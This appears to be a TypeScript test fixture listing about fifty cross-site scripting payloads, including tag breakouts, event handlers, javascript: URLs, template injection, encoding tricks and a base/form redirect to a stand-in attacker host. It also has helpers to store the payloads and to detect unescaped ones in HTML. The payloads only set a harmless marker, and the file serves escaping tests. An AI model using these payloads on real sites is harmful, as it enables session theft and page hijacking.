const run = "window.__pwned=1";

export const payloads = [
	`<script>${run}</script>`,
	`</script><script>${run}</script>`,
	`</ScRiPt ><script>${run}//`,
	`"}]}</script><script>${run}</script>`,
	`\\u003c/script\\u003e\\u003cscript\\u003e${run}`,
	`\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
	`\u2028${run}\u2029`,
	`<!--<script>${run}`,
	`--><script>${run}</script>`,
	`<![CDATA[<script>${run}</script>]]>`,
	`</title><script>${run}</script>`,
	`</textarea><script>${run}</script>`,
	`</option></select><img src=x onerror=${run}>`,
	`</style><script>${run}</script>`,
	`</noscript><img src=x onerror=${run}>`,
	`<img src=x onerror=${run}>`,
	`"><img src=x onerror=${run}>`,
	`'><img src=x onerror=${run}>`,
	`\`><img src=x onerror=${run}>`,
	`" onfocus="${run}" autofocus x="`,
	`' onfocus='${run}' autofocus x='`,
	` onmouseover=${run} `,
	`" style="animation:x" onanimationstart="${run}`,
	`<body onload=${run}>`,
	`<svg onload=${run}>`,
	`<svg><script href="data:text/javascript,${run}"/></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<math><mtext><mglyph><style><img src=x onerror=${run}></style></mglyph></mtext></math>`,
	`<math href="javascript:${run}">x</math>`,
	`<iframe srcdoc="<script>parent.${run.slice(7)}</script>">`,
	`<iframe src="javascript:${run}">`,
	`<a href="javascript:${run}">x</a>`,
	`[x](javascript:${run})`,
	`![x](x" onerror="${run})`,
	`<https://a.example/"onclick="${run}>`,
	`javascript:${run}`,
	`data:text/html,<script>${run}</script>`,
	`&lt;script&gt;${run}&lt;/script&gt;`,
	`&#60;script&#62;${run}&#60;/script&#62;`,
	`&quot;&gt;&#x3c;img src=x onerror=${run}&#x3e;`,
	`{{constructor.constructor('${run}')()}}`,
	`\${${run}}#{${run}}<%=${run}%>`,
	`__proto__[x]=<script>${run}</script>`,
	`<base href="https://evil.test/"><form action="https://evil.test/"><input name=age>`,
	`<meta http-equiv=refresh content="0;url=javascript:${run}">`,
	`\0<scr\0ipt>${run}</script>`,
	`＜script＞${run}＜/script＞`,
];

const storable = payloads.filter((text) => !text.includes("\0"));
const actsAtStart = /^(javascript|data):/;

/** All that a database takes, in one text; those that act as a whole address come alone. */
export const storedTexts = [
	storable.filter((text) => !actsAtStart.test(text)).join(" "),
	...storable.filter((text) => actsAtStart.test(text)),
];

/** @returns those that the HTML has unescaped */
export function listUnescaped(html: string): string[] {
	return payloads.filter((text) => text.includes("<") && html.includes(text));
}
